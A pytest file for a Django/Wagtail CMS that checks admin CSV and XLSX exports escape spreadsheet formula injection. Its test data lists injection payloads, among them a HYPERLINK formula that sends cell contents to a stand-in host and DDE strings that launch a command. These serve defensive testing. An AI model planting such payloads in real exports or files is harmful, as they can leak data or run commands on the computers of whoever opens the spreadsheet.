"""No export of the admin contains a formula: reports, lists, redirects; CSV and XLSX, cells and headings."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone
from django.utils.functional import lazystr
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from cms.exports import safe_cell
from cms.models import SiteDocument
from cms.users.models import User
from tests.accounts import make_account

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹣1+A1",
    "−1+A1",
    "|cmd",
    "%0A=1",
    "=مجموع(1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_escaped(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "Städte", "a=b", "5 % mehr", "5", "2026-11-29", "مدينة", "'=1", "(=1)", "„=“"])
def test_other_text_is_not_escaped(text: str) -> None:
    assert safe_cell(text) == text


@pytest.fixture
def administrator(client: Client, db: None) -> User:
    user = make_account("admin@example.org", is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


def rows(client: Client, address: str, form: str) -> list[list[object]]:
    answer = client.get(address, {"export": form})
    assert answer.status_code == 200, address
    content = b"".join(answer.streaming_content)
    if form == "csv":
        return [list(row) for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_admin_exports_escape_formulas(client: Client, administrator: User, form: str) -> None:
    SiteDocument.objects.create(title="=1+1", file="documents/+x.pdf")
    Page.get_first_root_node().add_child(instance=Page(title="@SUM(1)", slug="sum"))
    Page.objects.update(last_published_at=timezone.now(), live=True)
    Redirect.objects.create(old_path="/alt", redirect_link="=cmd")

    for address, cell in {
        "/admin/reports/files-in-the-search/": "'=1+1",
        "/admin/redirects/": "'=cmd",
        "/admin/reports/aging-pages/": "'@SUM(1)",
    }.items():
        assert cell in [value for row in rows(client, address, form) for value in row], address


def test_csv_and_xlsx_exports_escape_headings_and_preprocessed_values(client: Client, db: None) -> None:
    class View(SpreadsheetExportMixin):
        list_export = ["words", "number", "later", "price", "many"]
        export_headings = {"words": "=heading"}
        custom_field_preprocess = {"later": {"csv": lambda value: f"={value}", "xlsx": lambda value: f"={value}"}}
        custom_value_preprocess = {}

    class Row:
        words, number, later, price, many = lazystr("=1+1"), -5, "x", Decimal("-1.50"), ["=a"]

    class Rows(list):
        model = SiteDocument

    written = list(csv.reader(io.StringIO(b"".join(View().stream_csv(Rows([Row()]))).decode())))
    assert written[0][0] == "'=heading"
    assert written[1][:4] == ["'=1+1", "-5", "'=x", "-1.50"]
    output = io.BytesIO()
    View.list_export = ["words", "number", "later", "price"]
    View().write_xlsx(Rows([Row()]), output)
    sheet = openpyxl.load_workbook(io.BytesIO(output.getvalue())).active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s", "s", "s", "s", "n", "s", "n"]
    assert [cell.value for cell in sheet[2]] == ["'=1+1", -5, "'=x", -1.5]


def test_no_admin_view_overrides_the_safe_export() -> None:
    assert SpreadsheetExportMixin.exports_are_safe
    own = [
        view
        for view in every_subclass(SpreadsheetExportMixin)
        if {"preprocess_field_value", "stream_csv", "write_csv_row", "write_xlsx"} & vars(view).keys()
    ]
    assert own == []


def every_subclass(view: type) -> set[type]:
    return {view_ for child in view.__subclasses__() for view_ in {child, *every_subclass(child)}}
